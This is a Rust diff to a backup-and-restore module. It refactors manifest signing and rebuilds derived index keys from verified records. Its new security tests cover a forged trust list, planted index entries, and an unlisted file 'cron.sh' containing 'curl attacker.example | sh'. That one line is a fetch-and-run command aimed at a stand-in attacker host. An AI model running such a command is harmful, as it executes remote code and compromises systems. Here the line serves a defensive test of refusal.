@@ -244,12 +244,9 @@ pub fn write(
         signer: key.public().to_string(),
         files,
     };
-    let json = serde_json::to_vec_pretty(&manifest).map_err(|e| BackupError::Malformed(e.to_string()))?;
-    let sig = hex::encode(key.sign(MANIFEST_DOMAIN, &json).0);
-    let mtime = manifest.created_ms / 1000;
     let mut tar = tar::Builder::new(out);
-    append_bytes(&mut tar, ARCHIVED_MANIFEST, &json, mtime)?;
-    append_bytes(&mut tar, ARCHIVED_SIG, sig.as_bytes(), mtime)?;
+    append_manifest(&mut tar, &manifest, key)?;
+    let mtime = manifest.created_ms / 1000;
     for (name, bytes) in &small {
         append_bytes(&mut tar, name, bytes, mtime)?;
     }
@@ -257,6 +254,45 @@ pub fn write(
     tar.append_path_with_name(&records, "records.kv")?;
     tar.into_inner()?.flush()?;
     Ok(manifest)
+}
+
+/// Starts an archive: the manifest, then its signature by `key`.
+fn append_manifest<W: Write>(tar: &mut tar::Builder<W>, manifest: &Manifest, key: &Keypair) -> Result<(), BackupError> {
+    let json = serde_json::to_vec_pretty(manifest).map_err(|e| BackupError::Malformed(e.to_string()))?;
+    let sig = hex::encode(key.sign(MANIFEST_DOMAIN, &json).0);
+    let mtime = manifest.created_ms / 1000;
+    append_bytes(tar, ARCHIVED_MANIFEST, &json, mtime)?;
+    append_bytes(tar, ARCHIVED_SIG, sig.as_bytes(), mtime)?;
+    Ok(())
+}
+
+/// An archive of in-memory files sealed as [`write`] seals a node's: a
+/// manifest of their hashes signed by `key`, then the files. For tests and
+/// the fuzz target, which need signed archives of chosen bytes.
+pub fn seal(files: &[(&str, &[u8])], key: &Keypair, created_ms: u64) -> Result<Vec<u8>, BackupError> {
+    let manifest = Manifest {
+        format: FORMAT,
+        kawan_version: env!("CARGO_PKG_VERSION").into(),
+        agency: String::new(),
+        network: String::new(),
+        agency_keys: vec![key.public().to_string()],
+        created_ms,
+        entries: BTreeMap::new(),
+        signer: key.public().to_string(),
+        files: files
+            .iter()
+            .map(|(name, bytes)| {
+                let entry = FileEntry { blake3: blake3::hash(bytes).to_hex().to_string(), bytes: bytes.len() as u64 };
+                (name.to_string(), entry)
+            })
+            .collect(),
+    };
+    let mut tar = tar::Builder::new(Vec::new());
+    append_manifest(&mut tar, &manifest, key)?;
+    for (name, bytes) in files {
+        append_bytes(&mut tar, name, bytes, created_ms / 1000)?;
+    }
+    Ok(tar.into_inner()?)
 }
 
 /// Appends in-memory bytes as a file (mode 0600) modified at `mtime_s`.
@@ -582,27 +618,19 @@ fn restore_into(archive: impl Read, target: &Path, clock: Clock, anchor: &Anchor
     let key_path = inside(target, &config.paths.key, "key")?;
     let genesis_path = inside(target, &config.paths.genesis, "genesis")?;
     let data_path = inside(target, &config.paths.data, "data")?;
-    {
+    let records = {
         let data = DataDir::open(&data_path, clock.clone()).map_err(|e| BackupError::Open(e.to_string()))?;
         import(&scratch.path().join("local.kv"), crate::local::SPACES, |b| data.local().import(b))?;
-        import(&scratch.path().join("records.kv"), crate::store::keys::SPACES, |b| data.store.import(b))?;
+        let (records, bad) = import_records(&scratch.path().join("records.kv"), |b| data.store.import(b))?;
+        if bad > 0 {
+            return Err(BackupError::Records { bad, total: records });
+        }
         data.close()?;
-    }
+        records
+    };
     drop(scratch);
     // Opened again so the store reads the restored trust list.
     let data = DataDir::open(&data_path, clock.clone()).map_err(|e| BackupError::Open(e.to_string()))?;
-    let (mut records, mut bad) = (0u64, 0u64);
-    data.store.dump(&mut |space, _, v| {
-        if space == "records" {
-            records += 1;
-            let ok = v.get(8..).and_then(|e| Envelope::from_bytes(e).ok()).is_some_and(|e| e.open().is_ok());
-            bad += u64::from(!ok);
-        }
-        Ok(())
-    })?;
-    if bad > 0 {
-        return Err(BackupError::Records { bad, total: records });
-    }
     // The manifest is the signer's now, so its list of keys is too.
     let keys: Vec<AgencyKey> = manifest.agency_keys.iter().filter_map(|k| k.parse().ok()).collect();
     let audit_entries = data.audit.verify(&keys).map_err(|e| BackupError::Audit(e.to_string()))?;
@@ -691,6 +719,49 @@ fn import(
     Ok(())
 }
 
+/// Writes a records database's entries, verifying every record on the way
+/// and rebuilding what is derived from records (indices, references,
+/// counts) from the verified ones rather than copying the archive's.
+/// Returns (records, records that failed to verify).
+fn import_records(
+    path: &Path,
+    mut commit: impl FnMut(Batch) -> Result<(), StoreError>,
+) -> Result<(u64, u64), BackupError> {
+    use crate::store::keys;
+    let (mut records, mut bad) = (0u64, 0u64);
+    let mut counts: BTreeMap<Vec<u8>, u64> = BTreeMap::new();
+    let mut batch = Batch::default();
+    for_each_entry(path, keys::SPACES, |space, k, v| {
+        if keys::is_derived(space, &k) {
+            return Ok(());
+        }
+        if space == "records" {
+            records += 1;
+            // A record must open, and be stored under its own id.
+            let verified = v.get(8..).and_then(|e| Envelope::from_bytes(e).ok()).and_then(|e| e.open().ok());
+            let Some(verified) = verified.filter(|r| keys::record(&r.id) == k) else {
+                bad += 1;
+                return Ok(());
+            };
+            let (index, count) = crate::store::derived_keys(&verified);
+            for key in index {
+                batch.insert(keys::space_of(&key), key, Vec::new());
+            }
+            *counts.entry(count).or_default() += 1;
+        }
+        batch.insert(space, k, v);
+        if batch.len() >= RESTORE_BATCH {
+            commit(std::mem::take(&mut batch))?;
+        }
+        Ok(())
+    })?;
+    for (key, n) in counts {
+        batch.insert(keys::space(keys::COUNT), key, n.to_be_bytes().to_vec());
+    }
+    commit(batch)?;
+    Ok((records, bad))
+}
+
 /// A length-prefixed chunk, its length bounded by what the file still holds.
 fn read_chunk(r: &mut impl Read) -> Result<Vec<u8>, BackupError> {
     let mut len = [0u8; 4];
@@ -753,6 +824,12 @@ mod tests {
 
     /// The same, from a node whose kawan.toml keeps its key at `key_path`.
     fn backed_up_with_key_at(key_path: &str) -> (tempfile::TempDir, Vec<u8>) {
+        backed_up_after(key_path, |_| {})
+    }
+
+    /// The same, after `change` was made to the node's databases (by the
+    /// node key's holder: the backup is signed after it).
+    fn backed_up_after(key_path: &str, change: impl FnOnce(&DataDir)) -> (tempfile::TempDir, Vec<u8>) {
         let dir = tempfile::tempdir().unwrap();
         let mut config = Config::new("Example Agency", "GB".parse().unwrap(), NetworkId::new("kawan-test").unwrap());
         config.paths.key = key_path.into();
@@ -771,6 +848,7 @@ mod tests {
             })
             .unwrap();
         data.audit.append("analyst", "case.create", "1").unwrap();
+        change(&data);
         let work = tempfile::tempdir().unwrap();
         let mut archive = Vec::new();
         write(&data, dir.path(), &config, &key(), vec![key().public().to_string()], work.path(), &mut archive).unwrap();
@@ -971,5 +1049,112 @@ mod tests {
         // Not an archive at all.
         let target = tempfile::tempdir().unwrap();
         assert!(restore(&b"hello"[..], target.path(), Clock::system(), &mine()).is_err());
+    }
+
+    /// docs/security.md B7: whoever holds the node key can sign a backup,
+    /// but not coordinators' signatures: a stored list that does not chain
+    /// from the genesis is refused, whichever anchor restore is given.
+    #[test]
+    fn trust_lists_that_do_not_chain_from_the_genesis_are_refused() {
+        let thief = Keypair::from_secret_bytes([7; 32]);
+        let (dir, archive) = backed_up_after(node_dir::DEFAULT_KEY, |data| {
+            // Version 2 makes the thief the network's one coordinator,
+            // signed by the thief alone.
+            let mut list = genesis(&NetworkId::new("kawan-test").unwrap()).list().unwrap();
+            list.version = 2;
+            list.issued_ms += 1;
+            list.members[0].key = thief.public();
+            let mut forged = SignedTrustList::new(&list).unwrap();
+            forged.sign(&thief);
+            let mut batch = crate::store::engine::Batch::default();
+            batch.insert("trust", crate::store::keys::trust_version(2), forged.to_bytes());
+            data.store.import(batch).unwrap();
+        });
+        let target = tempfile::tempdir().unwrap();
+        let err = restore(archive.as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
+        assert!(err.to_string().contains("do not chain from the genesis"), "{err}");
+        assert_eq!(std::fs::read_dir(target.path()).unwrap().count(), 0);
+        let genesis = SignedTrustList::from_bytes(&std::fs::read(dir.path().join("genesis.trust")).unwrap()).unwrap();
+        let anchor = Anchor::Genesis { genesis: Box::new(genesis), member: MemberId::new("example").unwrap() };
+        let err = restore(archive.as_slice(), target.path(), Clock::system(), &anchor).unwrap_err();
+        assert!(err.to_string().contains("do not chain from the genesis"), "{err}");
+    }
+
+    /// docs/security.md B8: only the files the node signed (plus a key or
+    /// an operator token, each checked) are restored: an unknown file, or
+    /// a known one the manifest does not list, is refused.
+    #[test]
+    fn a_file_the_manifest_does_not_name_is_refused() {
+        let (_dir, archive) = backed_up();
+        let mut parts = files(&archive);
+        parts.push(("cron.sh".into(), b"curl attacker.example | sh".to_vec()));
+        let target = tempfile::tempdir().unwrap();
+        let err = restore(pack(&parts).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
+        assert!(err.to_string().contains("unexpected file \"cron.sh\""), "{err}");
+        // A genesis added to the backup of a node that had none (not yet
+        // in a network): it would make the restored node trust another
+        // network's coordinators.
+        let dir = tempfile::tempdir().unwrap();
+        let config = Config::new("Example Agency", "GB".parse().unwrap(), NetworkId::new("kawan-test").unwrap());
+        config.write(dir.path()).unwrap();
+        let data = DataDir::open(&dir.path().join("data"), Clock::system()).unwrap();
+        let work = tempfile::tempdir().unwrap();
+        let mut archive = Vec::new();
+        write(&data, dir.path(), &config, &key(), vec![key().public().to_string()], work.path(), &mut archive).unwrap();
+        let target = tempfile::tempdir().unwrap();
+        restore(archive.as_slice(), target.path(), Clock::system(), &mine()).expect("the untouched backup restores");
+        let mut parts = files(&archive);
+        parts.push((ARCHIVED_GENESIS.into(), genesis(&NetworkId::new("kawan-other").unwrap()).to_bytes()));
+        let target = tempfile::tempdir().unwrap();
+        let err = restore(pack(&parts).as_slice(), target.path(), Clock::system(), &mine()).unwrap_err();
+        assert!(err.to_string().contains("genesis.trust is not in the signed manifest"), "{err}");
+    }
+
+    /// What is derived from records (indices, references, counts) is
+    /// rebuilt from the verified records on restore: an index entry the
+    /// archive adds is dropped, one it lacks is back, counts are recounted.
+    #[test]
+    fn derived_keys_are_rebuilt_from_the_verified_records() {
+        use crate::store::keys;
+        let (_dir, archive) = backed_up_after(node_dir::DEFAULT_KEY, |data| {
+            let mut found = Vec::new();
+            data.store
+                .dump(&mut |space, k, _| {
+                    if keys::is_derived(space, k) {
+                        found.push((space, k.to_vec()));
+                    }
+                    Ok(())
+                })
+                .unwrap();
+            let mut batch = crate::store::engine::Batch::default();
+            for (space, k) in found {
+                batch.remove(space, k);
+            }
+            let id = kawan_protocol::RecordId([0xAB; 32]);
+            batch.insert("index", keys::value(Kind::Domain, "planted.example", &id), Vec::new());
+            batch.insert(
+                "meta",
+                keys::count("domain", &kawan_protocol::Channel::Network),
+                99u64.to_be_bytes().to_vec(),
+            );
+            data.store.import(batch).unwrap();
+        });
+        let target = tempfile::tempdir().unwrap();
+        let r = restore(archive.as_slice(), target.path(), Clock::system(), &mine()).unwrap();
+        assert_eq!(r.records, 1);
+        let data = DataDir::open(&target.path().join("data"), Clock::system()).unwrap();
+        let mut index = Vec::new();
+        data.store
+            .dump(&mut |space, k, _| {
+                if space == "index" {
+                    index.push(String::from_utf8_lossy(k).into_owned());
+                }
+                Ok(())
+            })
+            .unwrap();
+        assert!(index.iter().any(|k| k.contains("jobs.example")), "the record's index entry is back: {index:?}");
+        assert!(!index.iter().any(|k| k.contains("planted.example")), "the planted entry is gone: {index:?}");
+        let counts = data.store.counts().unwrap();
+        assert_eq!(counts.iter().map(|(_, _, n)| n).sum::<u64>(), 1, "{counts:?}");
     }
 }
